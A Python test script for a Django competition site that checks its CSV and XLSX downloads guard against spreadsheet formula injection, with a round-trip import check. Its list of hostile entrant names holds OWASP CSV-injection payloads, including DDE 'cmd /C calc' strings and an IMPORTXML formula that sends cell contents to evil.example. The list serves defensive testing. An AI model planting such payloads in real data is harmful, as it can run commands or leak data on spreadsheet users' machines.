"""The downloads against hostile names: a competition whose entrants and clubs carry 30
names a spreadsheet could run (every OWASP CSV-injection prefix, Unicode look-alikes, separators
inside a name, a name as long as an entrant's can be), every CSV and XLSX the site serves
audited cell by cell, and the results CSV imported back into a fresh competition.

    python -m tests.bench.hostile_downloads [--json]

runs on a scratch SQLite database of its own and prints, per download, its cells, formula cells
and unguarded text cells (both must be 0), then whether the round trip gave back the same
standings and the same names. Exit 1 when any figure is off. The suite runs the same audit
(``tests/leagues/test_download_cells.py``).
"""
from __future__ import annotations

import argparse
import csv
import io
import json
import os
import re
import sys
import tempfile
import zipfile
from dataclasses import asdict, dataclass
from pathlib import Path

import openpyxl

from leagues.downloads.cells import FORMULA_STARTS

LONGEST_ENTRANT_NAME = 160  # leagues.models.Entrant.name
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example","Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "=Sofía",
    "-Ana-",
    "+34 600 000 000",
    "@maria",
    "'Quoted",
    "''Twice quoted",
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "=-1",
    "-=1",
    "-1",
    "=",
    "@@",
    "\uff1dHYPERLINK(\"http://evil.example\")",  # full-width =
    "\uff0b1+1",  # full-width +
    "\uff0d1+1",  # full-width -
    "\uff20SUM(A1)",  # full-width @
    "\u2212" + "1+1",  # the minus sign: text to every spreadsheet
    "Ana;=cmd|' /C calc'!A0",  # a separator of some locales, then a formula
    "Bea,=1+1",  # the CSV's own separator, then a formula
    'Caro "=1+1"',
    "=1+1;=2+2",
    "+=1",
    "=" + "A" * 199,  # 200 characters
)
# Texts no name can hold (leagues.models.validate_printable refuses them, the import too): the
# guard still covers them, for any text cell.
UNPRINTABLE_HOSTILE_TEXTS = ("\t=1+1", "\r=cmd|' /C calc'!A0", "\n=1+1", "\u200b=1+1", "Dani\n=1+1")


NUMBER = re.compile(r"-?[0-9]+")  # a CSV cell a spreadsheet reads as a number, not a formula


@dataclass
class Audit:
    """One download's cells: ``formulas`` (typed formula, XLSX) and ``unguarded`` (a text a
    spreadsheet would run: it begins with a formula's first character) must both be 0."""

    download: str
    cells: int = 0
    formulas: int = 0
    unguarded: int = 0


def audit_csv(name: str, body: bytes) -> Audit:
    audit = Audit(name)
    for row in csv.reader(io.StringIO(body.decode("utf-8"))):
        for value in row:
            audit.cells += 1
            audit.unguarded += value.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(value)
    return audit


def audit_xlsx(name: str, body: bytes) -> Audit:
    audit = Audit(name)
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        for xml in (archive.read(n) for n in sheets):
            audit.formulas += xml.count(b"<f>") + xml.count(b"<f ")
    for sheet in openpyxl.load_workbook(io.BytesIO(body)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                audit.cells += 1
                audit.formulas += cell.data_type == "f"
                risky = isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
                audit.unguarded += risky and not cell.quotePrefix
    return audit


def entrant_names() -> list[str]:
    """The 30 names as entrants can hold them (the 200-character one cut to the field's 160)."""
    return [name[:LONGEST_ENTRANT_NAME] for name in HOSTILE_NAMES]


def run() -> dict:
    """The audit on the configured database (migrated): returns the figures."""
    from django.core.management import call_command  # noqa: PLC0415 - Django is set up by main()

    from leagues.downloads import tables  # noqa: PLC0415
    from tests.leagues.hostile_world import hostile_league, standings_rows  # noqa: PLC0415

    original = hostile_league()
    audits = []
    for what in tables.DATASETS:
        audits.append(audit_csv(f"{what}.csv", tables.export(original, what, "csv")))
        audits.append(audit_xlsx(f"{what}.xlsx", tables.export(original, what, "xlsx")))
    body = tables.export(original, "results", "csv")
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "results.csv"
        path.write_bytes(body)
        call_command("import_results", str(path), "--competition", "hostile-copy", "--create", "--name", "Copy",
                     "--preset", original.tiebreak_preset, "--points", "3,1,0", verbosity=0, stdout=io.StringIO())
    copy = type(original).objects.get(slug="hostile-copy")
    return {
        "names": len(HOSTILE_NAMES),
        "audits": [asdict(a) for a in audits],
        "round_trip_same_standings": standings_rows(copy) == standings_rows(original),
        "round_trip_same_names": sorted(copy.entrants.values_list("name", flat=True)) == sorted(entrant_names()),
        "round_trip_same_file": tables.export(copy, "results", "csv") == body,
    }


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--json", action="store_true")
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory() as folder:
        os.environ["DATABASE_URL"] = f"sqlite:///{Path(folder) / 'hostile.sqlite3'}"
        os.environ.setdefault("DJANGO_SETTINGS_MODULE", "config.settings")
        os.environ.setdefault("DEBUG", "1")
        os.environ["REDIS_URL"] = ""  # the standings' tasks run in this process
        import django  # noqa: PLC0415 - after the scratch database is chosen

        django.setup()
        from django.core.management import call_command  # noqa: PLC0415

        call_command("migrate", verbosity=0)
        figures = run()
    if args.json:
        print(json.dumps(figures, indent=2))
    else:
        print(f"{figures['names']} hostile names")
        print(f"{'download':<16}{'cells':>8}{'formulas':>10}{'unguarded':>11}")
        for audit in figures["audits"]:
            print(f"{audit['download']:<16}{audit['cells']:>8}{audit['formulas']:>10}{audit['unguarded']:>11}")
        for key in ("round_trip_same_standings", "round_trip_same_names", "round_trip_same_file"):
            print(f"{key.replace('_', ' ')}: {'yes' if figures[key] else 'NO'}")
    bad = any(a["formulas"] or a["unguarded"] for a in figures["audits"])
    return 1 if bad or not all(figures[k] for k in figures if k.startswith("round_trip")) else 0


if __name__ == "__main__":
    sys.exit(main())
